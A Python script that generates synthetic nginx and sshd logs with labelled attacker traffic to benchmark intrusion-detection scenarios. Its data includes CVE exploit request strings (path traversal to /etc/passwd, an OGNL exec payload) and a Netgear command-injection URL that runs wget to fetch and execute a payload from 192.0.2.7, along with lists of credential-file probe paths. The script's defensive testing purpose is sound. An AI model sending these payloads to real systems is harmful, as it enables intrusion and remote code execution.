#!/usr/bin/env python3
"""Deterministic synthetic attack logs: an nginx access log and an sshd auth.log (syslog format).

Each file mixes legitimate traffic with attackers whose behaviour is built to be caught, with a
wide margin, by the hub's scenarios (``crowdsecurity/nginx`` + ``base-http-scenarios`` on the
access log, ``crowdsecurity/sshd`` on auth.log):

* nginx: browsing visitors and polite search-engine crawlers (legitimate); scanners probing
  sensitive paths and admin interfaces (bursts of 404s); single-shot CVE exploit probes; login
  brute force (POSTs on ``/wp-login.php`` answered 403, on ``/login`` answered 401); aggressive
  crawlers (hundreds of distinct pages in seconds); clients with bad user agents; and attackers
  the hub whitelists (private addresses, a CDN range, a listed search-engine bot).
* auth.log: fast and slow SSH brute force, refused connections, pre-auth timeouts, a
  "time-based" brute force (one attempt every ~15 minutes), admins logging in (one typo at
  most), private-network logins and unrelated system lines.

Attackers get unique addresses from blocks no legitimate actor uses, so which source IPs must
raise an alert is known: ``<log>.truth.json`` lists, per actor category, its addresses, whether
it should alert and the scenarios meant to catch it.

The same seed and line count always give byte-identical files. ``bench/bench_replay.py`` uses
1M-line files, ``bench/bench_parse.py`` 200k; the samples bundled with crowdwatch are::

    python3 bench/gen_logs.py --lines 300 --out src/crowdwatch/content/samples --no-truth
"""

from __future__ import annotations

import argparse
import functools
import json
import random
import time
from collections.abc import Callable
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from operator import itemgetter
from pathlib import Path

START = datetime(2024, 3, 10, 0, 0, 0, tzinfo=UTC)
_START_SECOND = 8 * 3600  # the logs begin at 08:00:00 on START's day
SECONDS_PER_LINE = 0.4  # log span = lines x this (a busy but plausible site)

BROWSERS = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_3) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.3 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:123.0) Gecko/20100101 Firefox/123.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_3 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
)
GOOD_BOTS = (
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
)
TOOL_AGENTS = ("python-requests/2.31.0", "curl/8.5.0", "Go-http-client/1.1", "Wget/1.21.4")
# each matches an entry of the hub's bad_user_agents.regex.txt
BAD_AGENTS = (
    "Mozilla/5.0 zgrab/0.x",
    "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
    "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
    "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)",
    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
    "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)",
    "Mozilla/5.0 (compatible; MJ12bot/v1.4.8; http://mj12bot.com/)",
)
DUCKDUCKBOT = "DuckDuckBot/1.1; (+http://duckduckgo.com/duckduckbot.html)"
PAGES = ("/", "/index.html", "/about", "/blog/", "/blog/2024/03/hello-world", "/contact", "/products?page=2")
ASSETS = ("/static/app.css", "/static/app.js", "/static/logo.png", "/favicon.ico", "/img/banner.jpg")
# sensitive files and admin interfaces: none has a "static" extension (.js, .gz, ...)
PROBES = (
    "/.env",
    "/.env.production.local",
    "/.git/config",
    "/.git/HEAD",
    "/.aws/credentials",
    "/.htpasswd",
    "/.ssh/id_rsa",
    "/.svn/entries",
    "/.DS_Store",
    "/.vscode/sftp.json",
    "/backup.sql",
    "/db.sql",
    "/dump.sql.zip",
    "/config.php.bak",
    "/wp-config.php.bak",
    "/debug.log",
    "/composer.lock",
    "/secrets.json",
    "/docker-compose.yml",
    "/server-status",
    "/phpinfo.php",
    "/info.php",
    "/phpmyadmin/index.php",
    "/pma/index.php",
    "/admin/",
    "/admin/login.php",
    "/manager/html",
    "/wp-admin/setup-config.php",
    "/wp-content/plugins/revslider/readme.txt",
    "/solr/admin/info/system",
    "/actuator/env",
    "/api/v1/pods",
    "/owa/auth/logon.aspx",
    "/HNAP1/",
    "/cgi-bin/luci",
    "/boaform/admin/formLogin",
)
# one request each is enough: every path below is caught by a hub CVE trigger scenario
CVE_PROBES = (
    ("GET", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd", 400, "crowdsecurity/http-cve-2021-41773"),
    (
        "GET",
        "/public/plugins/alertlist/../../../../../../../../etc/passwd",
        400,
        "crowdsecurity/grafana-cve-2021-43798",
    ),
    (
        "GET",
        "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession",
        404,
        "crowdsecurity/fortinet-cve-2018-13379",
    ),
    ("POST", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", 404, "crowdsecurity/CVE-2017-9841"),
    (
        "GET",
        "/?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x",
        200,
        "crowdsecurity/spring4shell_cve-2022-22965",
    ),
    (
        "GET",
        "/%24%7B%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29%7D/",
        404,
        "crowdsecurity/CVE-2022-26134",
    ),
    (
        "GET",
        "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://192.0.2.7:8088/Mozi.m+-O+/tmp/netgear;sh+netgear&curpath=/&currentsetting.htm=1",
        404,
        "crowdsecurity/netgear_rce",
    ),
    (
        "GET",
        "/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/passwd",
        404,
        "crowdsecurity/f5-big-ip-cve-2020-5902",
    ),
    (
        "GET",
        "/server-info.action?bootstrapStatusProvider.applicationConfig.setupComplete=false",
        404,
        "crowdsecurity/CVE-2023-22515",
    ),
)
SSH_USERS = (
    "admin",
    "ubuntu",
    "test",
    "oracle",
    "postgres",
    "user",
    "pi",
    "ftpuser",
    "guest",
    "support",
    "mysql",
)
SSH_VALID = ("root", "git", "deploy")

# First octets: legitimate clients never use an attacker block, so alerted sets are exact.
LEGIT_BLOCKS = (5, 31, 77, 78, 91, 109, 151, 176, 188, 217)
ATTACK_BLOCKS = (37, 45, 46, 62, 80, 89, 94, 185, 193, 212)
CDN_RANGE = "173.245.48."  # Cloudflare (hub data cloudflare_ips.txt): whitelisted by cdn-whitelist
SEO_BOT_IPS = ("23.21.227.69", "40.88.21.235", "50.16.241.113")  # DuckDuckBot (ip_seo_bots.txt)

Event = tuple[float, str]


@dataclass
class Category:
    """Ground truth for one actor category: addresses whose sessions are complete, or cut short."""

    alerts: bool
    scenarios: tuple[str, ...]
    ips: set[str] = field(default_factory=set)
    truncated: set[str] = field(default_factory=set)


@dataclass
class Gen:
    """Generator state: random source, address allocation, timestamp caches, ground truth."""

    rng: random.Random
    used: set[str] = field(default_factory=set)
    last_ip: str = ""
    http_times: dict[int, str] = field(default_factory=dict)  # second -> nginx time text
    sys_times: dict[int, str] = field(default_factory=dict)  # second -> syslog prefix

    def legit_ip(self) -> str:
        r = self.rng.getrandbits(24)
        return f"{self.rng.choice(LEGIT_BLOCKS)}.{r >> 16}.{(r >> 8) & 255}.{(r & 127) + 1}"

    def attacker_ip(self) -> str:
        while True:
            r = self.rng.getrandbits(24)
            ip = f"{self.rng.choice(ATTACK_BLOCKS)}.{r >> 16}.{(r >> 8) & 255}.{(r & 127) + 1}"
            if ip not in self.used:
                self.used.add(ip)
                self.last_ip = ip
                return ip

    def note(self, ip: str) -> str:
        self.last_ip = ip
        return ip

    def http_time(self, t: float) -> str:
        s = int(t)
        text = self.http_times.get(s)
        if text is None:
            day, rem = divmod(s + _START_SECOND, 86400)
            hour, rem = divmod(rem, 3600)
            text = f"{_day(day, '%d/%b/%Y')}:{hour:02d}:{rem // 60:02d}:{rem % 60:02d} +0000"
            self.http_times[s] = text
        return text

    def sys_time(self, t: float) -> str:
        s = int(t)
        text = self.sys_times.get(s)
        if text is None:
            day, rem = divmod(s + _START_SECOND, 86400)
            hour, rem = divmod(rem, 3600)
            text = f"{_day(day, '%b %e')} {hour:02d}:{rem // 60:02d}:{rem % 60:02d} web1"
            self.sys_times[s] = text
        return text


@functools.cache
def _day(day: int, fmt: str) -> str:
    return (START + timedelta(days=day)).strftime(fmt)


def _access(
    g: Gen, t: float, ip: str, verb: str, path: str, status: int, size: int, ref: str, ua: str
) -> Event:
    ts = g.http_times.get(int(t)) or g.http_time(t)
    return (t, f'{ip} - - [{ts}] "{verb} {path} HTTP/1.1" {status} {size} "{ref}" "{ua}"')


# --- nginx actors ------------------------------------------------------------------------


def visitor(g: Gen, t: float) -> list[Event]:
    """1-6 pages, each with 0-2 assets; 3% of pages are dead links. The hot path of the
    generator: draws use ``random()`` directly (``randrange``/``choice`` cost 3x more)."""
    rnd = g.rng.random
    ip, ua = g.legit_ip(), BROWSERS[int(rnd() * len(BROWSERS))]
    out: list[Event] = []
    for _ in range(int(rnd() * 6) + 1):
        page = PAGES[int(rnd() * len(PAGES))]
        if rnd() < 0.03:
            out.append(_access(g, t, ip, "GET", "/old-link", 404, 9123, "-", ua))
        else:
            out.append(_access(g, t, ip, "GET", page, 200, 9123, "-", ua))
        ref = "https://example.org" + page
        for asset in ASSETS[: int(rnd() * 3)]:
            if rnd() < 0.7:
                out.append(_access(g, t + 0.1, ip, "GET", asset, 200, 5123, ref, ua))
            else:
                out.append(_access(g, t + 0.1, ip, "GET", asset, 304, 0, ref, ua))
        t += 3 + rnd() * 37
    return out


def good_bot(g: Gen, t: float) -> list[Event]:
    rng = g.rng
    ip, ua = f"66.249.{rng.randrange(64, 80)}.{rng.randrange(1, 255)}", rng.choice(GOOD_BOTS)
    out = [_access(g, t, ip, "GET", "/robots.txt", 200, 68, "-", ua)]
    for _ in range(rng.randrange(3, 30)):
        t += rng.uniform(2, 10)
        page = rng.choice((*PAGES, "/sitemap.xml", "/old-page"))
        out.append(_access(g, t, ip, "GET", page, 404 if page == "/old-page" else 200, 9000, "-", ua))
    return out


def _probe_burst(g: Gen, t: float, ip: str, ua: str) -> list[Event]:
    rng = g.rng
    out: list[Event] = []
    for path in rng.sample(PROBES, rng.randrange(14, len(PROBES))):
        t += rng.uniform(0.05, 0.5)
        status = 403 if rng.random() < 0.15 else 404
        out.append(_access(g, t, ip, rng.choice(("GET", "GET", "HEAD")), path, status, 153, "-", ua))
    return out


def scanner(g: Gen, t: float) -> list[Event]:
    return _probe_burst(g, t, g.attacker_ip(), g.rng.choice(TOOL_AGENTS))


def cve_prober(g: Gen, t: float) -> list[Event]:
    rng = g.rng
    ip, ua = g.attacker_ip(), rng.choice(TOOL_AGENTS)
    out: list[Event] = []
    for verb, path, status, _ in rng.sample(CVE_PROBES, rng.randrange(1, 3)):
        out.append(_access(g, t, ip, verb, path, status, 0, "-", ua))
        t += rng.uniform(0.5, 5)
    return out


def brute_force(g: Gen, t: float) -> list[Event]:
    rng = g.rng
    ip = g.attacker_ip()
    path, status = rng.choice((("/wp-login.php", 403), ("/login", 401), ("/user/login", 401)))
    out: list[Event] = []
    for i in range(rng.randrange(10, 40)):
        t += rng.uniform(0.2, 1.5)
        out.append(
            _access(g, t, ip, "POST", path, status, 4100 + i % 7, "https://example.org" + path, BROWSERS[0])
        )
    return out


def _fast_crawl(g: Gen, t: float, ip: str, ua: str) -> list[Event]:
    rng = g.rng
    out: list[Event] = []
    first = rng.randrange(1000, 90000)
    for n in range(rng.randrange(120, 300)):
        t += rng.uniform(0.02, 0.15)
        out.append(_access(g, t, ip, "GET", f"/product/{first + n}", 200, 20480, "-", ua))
    return out


def crawler(g: Gen, t: float) -> list[Event]:
    return _fast_crawl(g, t, g.attacker_ip(), g.rng.choice(TOOL_AGENTS))


def bad_agent(g: Gen, t: float) -> list[Event]:
    rng = g.rng
    ip, ua = g.attacker_ip(), rng.choice(BAD_AGENTS)
    out: list[Event] = []
    for _ in range(rng.randrange(2, 6)):
        out.append(_access(g, t, ip, "GET", rng.choice(PAGES), 200, 9123, "-", ua))
        t += rng.uniform(0.5, 10)
    return out


def private_scanner(g: Gen, t: float) -> list[Event]:
    ip = g.note(f"10.{g.rng.randrange(0, 4)}.{g.rng.randrange(0, 256)}.{g.rng.randrange(2, 250)}")
    return _probe_burst(g, t, ip, TOOL_AGENTS[0])


def cdn_scanner(g: Gen, t: float) -> list[Event]:
    return _probe_burst(g, t, g.note(CDN_RANGE + str(g.rng.randrange(1, 255))), TOOL_AGENTS[1])


def seo_bot_crawl(g: Gen, t: float) -> list[Event]:
    return _fast_crawl(g, t, g.note(g.rng.choice(SEO_BOT_IPS)), DUCKDUCKBOT)


# --- sshd actors -------------------------------------------------------------------------


def _syslog(g: Gen, t: float, prog: str, pid: int, msg: str) -> Event:
    return (t, f"{g.sys_times.get(int(t)) or g.sys_time(t)} {prog}[{pid}]: {msg}")


def _ssh_attempt(g: Gen, t: float, ip: str, user: str) -> list[Event]:
    rng = g.rng
    pid, port = rng.randrange(2000, 60000), rng.randrange(30000, 65000)
    if user in SSH_VALID:
        return [
            _syslog(g, t, "sshd", pid, f"Failed password for {user} from {ip} port {port} ssh2"),
            _syslog(
                g,
                t + 0.2,
                "sshd",
                pid,
                f"Connection closed by authenticating user {user} {ip} port {port} [preauth]",
            ),
        ]
    return [
        _syslog(g, t, "sshd", pid, f"Invalid user {user} from {ip} port {port}"),
        _syslog(
            g, t + 0.1, "sshd", pid, f"Failed password for invalid user {user} from {ip} port {port} ssh2"
        ),
        _syslog(g, t + 0.3, "sshd", pid, f"Disconnected from invalid user {user} {ip} port {port} [preauth]"),
    ]


def _ssh_campaign(g: Gen, t: float, ip: str, attempts: int, gap: tuple[float, float]) -> list[Event]:
    rng = g.rng
    out: list[Event] = []
    for _ in range(attempts):
        t += rng.uniform(*gap)
        out.extend(_ssh_attempt(g, t, ip, rng.choice(SSH_USERS + SSH_VALID)))
    return out


def ssh_bruteforce(g: Gen, t: float) -> list[Event]:
    return _ssh_campaign(g, t, g.attacker_ip(), g.rng.randrange(8, 30), (0.3, 3))


def ssh_slow_bruteforce(g: Gen, t: float) -> list[Event]:
    ip = g.attacker_ip()
    out: list[Event] = []
    for _ in range(g.rng.randrange(14, 22)):
        t += g.rng.uniform(20, 40)
        out.extend(_ssh_attempt(g, t, ip, "root"))
    return out


def ssh_time_based(g: Gen, t: float) -> list[Event]:
    ip = g.attacker_ip()
    out: list[Event] = []
    for _ in range(g.rng.randrange(6, 9)):
        t += g.rng.uniform(660, 1200)
        out.extend(_ssh_attempt(g, t, ip, "root"))
    return out


def ssh_refused(g: Gen, t: float) -> list[Event]:
    ip = g.attacker_ip()
    return [
        _syslog(g, t + i * 3.0, "sshd", g.rng.randrange(2000, 60000), f"refused connect from {ip} ({ip})")
        for i in range(2)
    ]


def ssh_timeouts(g: Gen, t: float) -> list[Event]:
    rng = g.rng
    ip = g.attacker_ip()
    out: list[Event] = []
    for _ in range(rng.randrange(5, 9)):
        t += rng.uniform(1, 15)
        msg = f"Timeout before authentication for {ip} port {rng.randrange(30000, 65000)}"
        out.append(_syslog(g, t, "sshd", rng.randrange(2000, 60000), msg))
    return out


def ssh_admin(g: Gen, t: float) -> list[Event]:
    rng = g.rng
    ip, pid, port = g.legit_ip(), rng.randrange(2000, 60000), rng.randrange(30000, 65000)
    out: list[Event] = []
    if rng.random() < 0.3:  # one typo, then the right password
        out.append(_syslog(g, t, "sshd", pid, f"Failed password for deploy from {ip} port {port} ssh2"))
        t += rng.uniform(2, 6)
    out.append(_syslog(g, t, "sshd", pid, f"Accepted password for deploy from {ip} port {port} ssh2"))
    return out


def ssh_private(g: Gen, t: float) -> list[Event]:
    rng = g.rng
    ip, pid, port = (
        f"10.0.{rng.randrange(0, 4)}.{rng.randrange(2, 250)}",
        rng.randrange(2000, 60000),
        rng.randrange(30000, 65000),
    )
    return [
        _syslog(
            g,
            t,
            "sshd",
            pid,
            f"Accepted publickey for deploy from {ip} port {port} ssh2: ED25519 SHA256:q1w2e3r4t5y6",
        ),
        _syslog(
            g,
            t + 0.1,
            "sshd",
            pid,
            "pam_unix(sshd:session): session opened for user deploy(uid=1000) by (uid=0)",
        ),
        _syslog(
            g, t + rng.uniform(30, 600), "sshd", pid, "pam_unix(sshd:session): session closed for user deploy"
        ),
    ]


def system_noise(g: Gen, t: float) -> list[Event]:
    pid = g.rng.randrange(2000, 60000)
    if g.rng.random() < 0.5:
        return [
            _syslog(
                g, t, "CRON", pid, "pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)"
            ),
            _syslog(g, t + 1, "CRON", pid, "pam_unix(cron:session): session closed for user root"),
        ]
    return [_syslog(g, t, "systemd-logind", 512, f"New session {pid} of user deploy.")]


# --- assembly ------------------------------------------------------------------------------

Actor = Callable[[Gen, float], list[Event]]


@dataclass(frozen=True)
class Role:
    """An actor with its share of sessions and its ground truth."""

    actor: Actor
    weight: float
    category: str = ""
    alerts: bool = False
    scenarios: tuple[str, ...] = ()


_HTTP_PROBING = (
    "crowdsecurity/http-probing",
    "crowdsecurity/http-sensitive-files",
    "crowdsecurity/http-admin-interface-probing",
)
NGINX_ROLES = (
    Role(visitor, 0.803),
    Role(good_bot, 0.06),
    Role(scanner, 0.025, "scanner", True, _HTTP_PROBING),
    Role(cve_prober, 0.04, "cve_probe", True, tuple(p[3] for p in CVE_PROBES)),
    Role(
        brute_force,
        0.02,
        "http_bruteforce",
        True,
        ("LePresidente/http-generic-401-bf", "LePresidente/http-generic-403-bf"),
    ),
    Role(crawler, 0.003, "aggressive_crawler", True, ("crowdsecurity/http-crawl-non_statics",)),
    Role(bad_agent, 0.04, "bad_user_agent", True, ("crowdsecurity/http-bad-user-agent",)),
    Role(private_scanner, 0.004, "private_scanner", False, ("crowdsecurity/whitelists",)),
    Role(cdn_scanner, 0.003, "cdn_scanner", False, ("crowdsecurity/cdn-whitelist",)),
    Role(seo_bot_crawl, 0.002, "seo_bot_crawl", False, ("crowdsecurity/seo-bots-whitelist",)),
)
SSH_ROLES = (
    Role(ssh_bruteforce, 0.20, "ssh_bruteforce", True, ("crowdsecurity/ssh-bf", "crowdsecurity/ssh-slow-bf")),
    Role(ssh_slow_bruteforce, 0.03, "ssh_slow_bruteforce", True, ("crowdsecurity/ssh-slow-bf",)),
    Role(ssh_time_based, 0.02, "ssh_time_based", True, ("crowdsecurity/ssh-time-based-bf",)),
    Role(ssh_refused, 0.03, "ssh_refused", True, ("crowdsecurity/ssh-refused-conn",)),
    Role(ssh_timeouts, 0.03, "ssh_preauth_timeouts", True, ("crowdsecurity/ssh-cve-2024-6387",)),
    Role(ssh_admin, 0.12),
    Role(ssh_private, 0.17),
    Role(system_noise, 0.40),
)


def generate(roles: tuple[Role, ...], lines: int, seed: int) -> tuple[list[str], dict[str, Category]]:
    """``lines`` log lines from actor sessions started at random times, in time order, and the truth.

    Sessions are cut at the line limit: an address with all its events in the file is listed
    under ``ips``; one whose activity was cut short under ``truncated`` (it may or may not alert).
    """
    rng = random.Random(seed)
    g = Gen(rng)
    span = max(lines * SECONDS_PER_LINE, 60.0)
    cum: list[float] = []
    total = 0.0
    for r in roles:
        total += r.weight
        cum.append(total)
    events: list[Event] = []
    # address -> (role, first event time, last event time) of the tracked actors
    tracked: dict[str, tuple[Role, float, float]] = {}
    choices, uniform = rng.choices, rng.uniform
    while len(events) < lines:
        for role in choices(roles, cum_weights=cum, k=256):
            evs = role.actor(g, uniform(0, span))
            events.extend(evs)
            if role.category:
                lo, hi = min(e[0] for e in evs), max(e[0] for e in evs)
                prev = tracked.get(g.last_ip)
                if prev is not None:
                    lo, hi = min(lo, prev[1]), max(hi, prev[2])
                tracked[g.last_ip] = (role, lo, hi)
    events.sort(key=itemgetter(0))
    del events[lines:]
    cut = events[-1][0]
    truth = {r.category: Category(r.alerts, r.scenarios) for r in roles if r.category}
    for ip, (role, lo, hi) in tracked.items():
        if hi < cut:
            truth[role.category].ips.add(ip)
        elif lo <= cut:
            truth[role.category].truncated.add(ip)
    return [line for _, line in events], truth


def truth_doc(truth: dict[str, Category]) -> dict[str, object]:
    return {
        name: {
            "alerts": c.alerts,
            "scenarios": list(c.scenarios),
            "ips": sorted(c.ips),
            "truncated": sorted(c.truncated),
        }
        for name, c in sorted(truth.items())
    }


LOGS = (("nginx-access.log", NGINX_ROLES, 0), ("auth.log", SSH_ROLES, 1))


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--lines", type=int, default=200_000, help="lines per file (default 200000)")
    ap.add_argument("--seed", type=int, default=1)
    ap.add_argument(
        "--out", type=Path, default=Path("bench/out"), help="output directory (default bench/out)"
    )
    ap.add_argument("--no-truth", action="store_true", help="do not write the <log>.truth.json files")
    args = ap.parse_args()
    args.out.mkdir(parents=True, exist_ok=True)
    for name, roles, offset in LOGS:
        start, cpu = time.perf_counter(), time.process_time()
        lines, truth = generate(roles, args.lines, args.seed + offset)
        path = args.out / name
        with path.open("w", encoding="utf-8") as f:
            f.write("\n".join(lines))
            f.write("\n")
        elapsed, cpu = time.perf_counter() - start, time.process_time() - cpu
        if not args.no_truth:
            truth_path = args.out / (Path(name).stem + ".truth.json")
            truth_path.write_text(json.dumps(truth_doc(truth), indent=1) + "\n", encoding="utf-8")
        alerting = sum(len(c.ips) for c in truth.values() if c.alerts)
        print(
            f"{path}: {len(lines)} lines in {elapsed:.2f} s ({len(lines) / elapsed:,.0f} lines/s, "
            f"{len(lines) / max(cpu, 1e-9):,.0f} per CPU second), {alerting} attacker IPs"
        )


if __name__ == "__main__":
    main()
